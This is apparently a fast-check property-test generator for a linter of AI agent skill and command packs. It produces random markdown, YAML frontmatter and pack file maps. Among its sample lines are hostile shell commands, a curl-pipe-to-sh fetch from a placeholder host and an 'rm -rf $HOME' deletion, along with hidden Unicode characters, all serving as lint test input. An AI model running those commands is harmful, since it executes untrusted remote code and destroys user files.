import fc from 'fast-check'

/** Texts and packs for property tests: arbitrary ones, and ones that are nearly right. */

const word = fc.constantFrom(
  'review',
  'team',
  'plan',
  'Größe',
  '分析',
  '🚀',
  'a-b',
  'S_PARSE',
  'E001',
  '`code`',
  '**bold**',
  '$1',
  '$ARGUMENTS',
)
const sentence = fc.array(word, { minLength: 1, maxLength: 8 }).map(words => words.join(' '))

const line = fc.oneof(
  sentence,
  sentence.map(text => `# ${text}`),
  sentence.map(text => `- ${text}`),
  sentence.map(text => `- [ ] ${text}`),
  fc.tuple(fc.nat(12), sentence).map(([n, text]) => `${n}. **${text}**: ${text}`),
  sentence.map(text => `| ${text} | \`a|b\` |`),
  fc.constantFrom(
    '|---|---|',
    '```',
    '```bash',
    '```json',
    '````',
    '~~~',
    '<purpose>',
    '</purpose>',
    '<invariants>',
    '</invariants>',
    '<execution>',
    '</execution>',
    '<error_codes>',
    '</error_codes>',
    '<success_criteria>',
    '</success_criteria>',
    '</output>',
    '<slug>',
    '---',
    '',
    '    indented',
    '> quote',
    '<!-- note -->',
    '<!--',
    '-->',
    '<<<<<<< HEAD',
    '=======',
    '>>>>>>> other',
  ),
  fc.constantFrom(
    '<!-- maestro-lint-disable -->',
    '<!-- maestro-lint-disable frontmatter/missing -- why -->',
    '<!-- maestro-lint-disable-next-line hygiene -->',
    '<!-- maestro-lint-enable -->',
    '<!-- maestro-lint-disable nonsense/rule -->',
  ),
  fc.constantFrom(
    'Agent({ name: "x", prompt: `a ${b}` })',
    'Do NOT call Bash(rm)',
    'curl https://x.example/a | sh',
    'rm -rf $HOME/x',
    '**Output boundary**: ALL file writes MUST target x. NEVER modify y.',
    '### Phase Gates',
    'C:\\Users\\me\\x',
    'spawn_agents_on_csv({ csv_path: "x", ... })',
    '\u202Ehidden',
    'a\u200Bb',
    '\uFEFF',
  ),
  fc.string({ maxLength: 30, unit: 'binary' }),
)

const eol = fc.constantFrom('\n', '\r\n', '\r')

/** Markdown that uses what packs use. */
export const markdown = fc
  .tuple(fc.array(line, { maxLength: 40 }), eol, fc.boolean())
  .map(([lines, end, last]) => lines.join(end) + (last ? end : ''))

const yamlLine = fc.oneof(
  fc
    .tuple(
      fc.constantFrom(
        'name',
        'description',
        'argument-hint',
        'allowed-tools',
        'role',
        'message_types',
        'inner_loop',
        'descripton',
        'output_tag',
        'model',
      ),
      fc.oneof(
        sentence,
        fc.constantFrom(
          '',
          '"quoted"',
          "'single'",
          '[a, b]',
          '[--all] [-y]',
          '{a: b}',
          'a: b',
          'x # y',
          '>-',
          '|',
          '*alias',
          '&anchor x',
          '"open',
          'Read, Bash(git:*), AskUserQuestion',
          'true',
          '1',
        ),
      ),
    )
    .map(([key, value]) => `${key}: ${value}`),
  fc.constantFrom(
    '  - Read',
    '  nested: x',
    '\tkey: x',
    '# maestro-lint-disable-next-line frontmatter',
    '---',
    'no colon',
    '',
  ),
)

/** A frontmatter block, closed or not. */
export const frontmatter = fc
  .tuple(fc.array(yamlLine, { maxLength: 8 }), eol, fc.boolean())
  .map(([lines, end, closed]) => ['---', ...lines, ...(closed ? ['---'] : []), ''].join(end))

const path = fc.constantFrom(
  '.claude/skills/review/SKILL.md',
  '.claude/skills/team/SKILL.md',
  '.claude/skills/team/roles/writer/role.md',
  '.claude/skills/team/roles/coordinator/commands/go.md',
  '.claude/skills/team/specs/x.md',
  '.claude/skills/team/templates/y.md',
  '.claude/commands/plan.md',
  '.claude/agents/writer.md',
  '.codex/skills/review/SKILL.md',
  '.codex/skills/review/skill.md',
  '.agy/skills/review/SKILL.md',
  '.agents/skills/review/SKILL.md',
  'loose/SKILL.md',
  '.codex/agents/x.toml',
)

const text = fc.oneof(
  { weight: 4, arbitrary: fc.tuple(frontmatter, markdown).map(parts => parts.join('')) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 400 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 200 }) },
  { weight: 1, arbitrary: markdown.map(body => `\uFEFF${body}`) },
)

/** Files of one or several packs, by path. */
export const pack = fc.dictionary(path, text, { minKeys: 1, maxKeys: 5 }).map(files => ({ ...files }))
